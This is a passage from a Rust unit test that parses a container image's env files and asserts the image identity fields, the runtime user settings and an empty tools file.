        let id = ImageIdentity::from_env_file(image).expect("identity");
        assert_eq!(id.image, "runner-base");
        assert_eq!(id.domain, "base");
        assert_eq!(id.role, "base");
        assert_eq!(id.description(), None);
        assert_eq!(id.vendor(), Some("gehorak"));
        assert_eq!(id.repository(), Some("https://github.com/gehorak/runner-base"));
        assert_eq!(id.file.get("RUNNER_LICENSE"), Some("MIT"));
        assert_eq!(id.file.origin(), "/etc/runner/image.env");

        let runtime = EnvFile::parse(&runtime, "/etc/runner/runtime.env").expect("runtime.env");
        let runtime_entries: Vec<_> = runtime.entries().collect();
        assert_eq!(
            runtime_entries,
            vec![
                ("RUNTIME_USER_NAME", "runner"),
                ("RUNTIME_USER_UID", "10001"),
                ("RUNTIME_USER_GID", "10001"),
                ("RUNTIME_USER_HOME", "/home/runner"),
                ("RUNTIME_SHELL", "/bin/bash"),
                ("RUNTIME_WORKDIR", "/workspace"),
            ]
        );

        let tools = EnvFile::parse(&tools, "/etc/runner/tools.env").expect("tools.env");
        assert!(tools.is_empty());
    }
}
